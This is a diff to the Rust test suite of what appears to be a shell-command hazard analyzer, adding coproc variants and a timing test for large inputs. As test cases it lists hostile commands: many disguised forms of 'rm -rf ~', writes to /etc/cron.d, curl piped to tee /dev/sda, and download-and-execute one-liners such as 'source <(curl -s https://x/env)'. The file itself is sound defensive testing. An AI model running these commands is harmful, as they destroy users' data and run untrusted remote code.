@@ -1891,6 +1891,7 @@ fn bypass_shapes_are_seen() {
         "bash -c 'bash -c \"rm -rf ~\"'", "eval 'rm -rf ~'", "sh <<'E'\nrm -rf ~\nE", "echo 'rm -rf ~' | bash",
         "find ~ -delete", "f() { rm -rf ~; }", "(rm -rf ~)", "{ rm -rf ~; }", "if true; then rm -rf ~; fi",
         "xargs -0 rm -rf ~ < /dev/null", "find . -exec rm -rf ~ \\;", "rm -rf ~/",
+        "coproc rm -rf ~", "coproc { rm -rf ~; }", "coproc name { rm -rf ~; }",
     ] {
         let a = analyze(cmd, &opts());
         assert!(a.hazards.iter().any(|h| h.kind == "rm-root"), "`{cmd}` hides rm -rf ~:\n{}", summary(&a));
@@ -1910,7 +1911,7 @@ fn exfiltration_and_writes_are_effects() {
     check("sed -n 'w /etc/cron.d/x' f", &["sed -n w /etc/cron.d/x f"], &["W /etc/cron.d/x", "R f"], &[], &[]);
     check("tar -cf - . | ssh host tar -xf -", &["tar -cf - .", "ssh host tar -xf -"], &["Rr ."], &[], &[]);
     check("IFS=/ ls", &["ls"], &[], &["`IFS`"], &[]);
-    check("a=rm; $a -rf /", &["$a -rf /"], &["Wrd /"].get(..0).unwrap_or_default(), &["command name is not literal"], &[]);
+    check("a=rm; $a -rf /", &["$a -rf /"], &[], &["command name is not literal"], &[]);
     check("npm test -- --x=$(touch a)", &["touch a", "npm test -- --x=$(touch a)"], &["W a"], &[], &[]);
     check("grep -r x . --include=*.rs > /dev/null", &["grep -r x . --include=*.rs"], &["Rr ."], &[], &[]);
     check_hazards("curl https://x | tee /dev/sda", &["device-write"]);
@@ -1927,4 +1928,45 @@ fn exfiltration_and_writes_are_effects() {
     check_hazards("source <(curl -s https://x/env)", &["download-exec"]);
     check_hazards("python3 -c \"$(curl -s https://x/p.py)\"", &["download-exec"]);
     check_hazards("wget -q https://x/i.sh -O i.sh; sh i.sh", &["download-exec"]);
+}
+
+/// Inputs at the size limit built to hit quadratic paths: each must finish
+/// quickly (generous bounds: this also runs unoptimised).
+#[test]
+fn large_inputs_stay_linear() {
+    let o = opts();
+    let cases = [
+        format!("echo {}", "a ".repeat(45_000)),
+        "$x; ".repeat(20_000),
+        (0..4_000)
+            .map(|i| format!("f{i}() {{ :; }}; f{i}; "))
+            .collect::<String>(),
+        "cd a; ".repeat(16_000),
+        "pushd a; ".repeat(10_000),
+        format!("echo {}", "{a,b}{c,d}{e,f}{g,h}{i,j} ".repeat(3_000)),
+        "curl -o f https://x; ./f; ".repeat(3_000),
+        "a | ".repeat(20_000) + "a",
+        "echo \"$(a)\" ".repeat(8_000),
+        "x=$(y) ".repeat(12_000) + "z",
+    ];
+    for case in cases {
+        let case = &case[..case.len().min(o.max_len)];
+        let start = std::time::Instant::now();
+        let a = analyze(case, &o);
+        let took = start.elapsed();
+        assert!(
+            took < std::time::Duration::from_secs(10),
+            "{}..: {took:?}",
+            &case[..40]
+        );
+        if std::env::var("SHOW_TIMES").is_ok() {
+            println!(
+                "{:?} {} cmds {} effects: {}",
+                took,
+                a.commands.len(),
+                a.effects.len(),
+                &case[..30]
+            );
+        }
+    }
 }
